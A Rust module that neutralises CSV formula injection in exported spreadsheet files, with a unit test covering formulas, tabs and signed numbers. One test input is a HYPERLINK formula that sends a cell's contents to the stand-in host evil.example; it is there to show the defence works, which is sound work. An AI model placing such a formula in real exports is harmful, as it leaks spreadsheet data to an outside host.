//! Files people open in a spreadsheet (report CSVs, the finance journal): a cell must never be
//! evaluated as a formula (CSV injection, OWASP), yet amounts stay numbers.

/// A plain decimal number: optional minus, digits, optionally a point and digits.
pub fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A CSV cell a spreadsheet will not evaluate: a leading `'` on a cell that starts with `=`,
/// `+`, `-`, `@`, tab or carriage return, unless it is a plain number.
pub fn neutralise(text: String) -> String {
    let dangerous = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if dangerous && !is_plain_number(&text) {
        format!("'{text}")
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_but_numbers_stay_numbers() {
        for (input, expected) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            ),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("-1e5", "'-1e5"),
            ("--12.50", "'--12.50"),
            ("-12.50", "-12.50"),
            ("-3", "-3"),
            ("12.50", "12.50"),
            ("Carla Beispiel", "Carla Beispiel"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(input.to_string()), expected, "{input:?}");
        }
    }
}
